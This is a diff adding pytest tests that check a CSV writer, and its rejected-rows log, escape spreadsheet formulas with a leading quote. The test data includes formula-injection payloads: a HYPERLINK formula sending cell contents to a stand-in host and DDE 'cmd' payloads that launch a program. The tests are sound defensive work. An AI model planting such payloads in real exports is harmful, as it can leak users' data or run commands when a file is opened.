@@ -52,3 +52,36 @@ def test_floats_are_written_as_pandas_writes_them_across_sizes(tmp_path):
     write_csv(frame, tmp_path / "ours.csv")
     frame.to_csv(tmp_path / "pandas.csv", index=False)
     assert (tmp_path / "ours.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes()
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"open")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(A1:A9)", "\t=1", "-"]
+
+
+@pytest.mark.parametrize("path", ["fast", "pandas"])
+def test_text_cells_a_spreadsheet_would_run_are_neutralised(tmp_path, path):
+    """A text cell that begins with =, +, -, @ (a tab, a carriage return) gets a single
+    quote before it, unless it is a plain number; number columns are as they were."""
+    import csv
+    text = FORMULAS + ["-3.5", "+7", "1e-3", "P1", "a=b", None]
+    numbers = [-3.5, -0.25, 1.0, -1e22, 2.0, -7.0, 0.5, 3.0, -1.0, 4.0, 5.0, np.nan]
+    frame = pd.DataFrame({"id": text, "x": numbers, "n": np.arange(12) - 6})
+    if path == "pandas":
+        frame["mixed"] = [1, "=1+1"] * 6               # a column pandas formats
+    write_csv(frame, tmp_path / "out.csv")
+    with open(tmp_path / "out.csv", newline="") as handle:
+        read = list(csv.DictReader(handle))
+    assert [r["id"] for r in read] == ["'" + f for f in FORMULAS] + [
+        "-3.5", "+7", "1e-3", "P1", "a=b", ""]
+    assert [r["x"] for r in read][:4] == ["-3.5", "-0.25", "1.0", "-1e+22"]
+    assert [int(r["n"]) for r in read] == list(range(-6, 6))
+    if path == "pandas":
+        assert [r["mixed"] for r in read][:2] == ["1", "'=1+1"]
+
+
+def test_rejected_rows_are_neutralised_too(tmp_path):
+    from southbound.outputs import write_rejects
+    rejects = pd.DataFrame({"row": [2], "reason": ["column port_code: ..."],
+                            "crossing_id": ["=cmd|' /C calc'!A0"]})
+    side = write_rejects(rejects, "log.csv", tmp_path)
+    assert side.read_text().splitlines()[1] == "2,column port_code: ...,'=cmd|' /C calc'!A0"
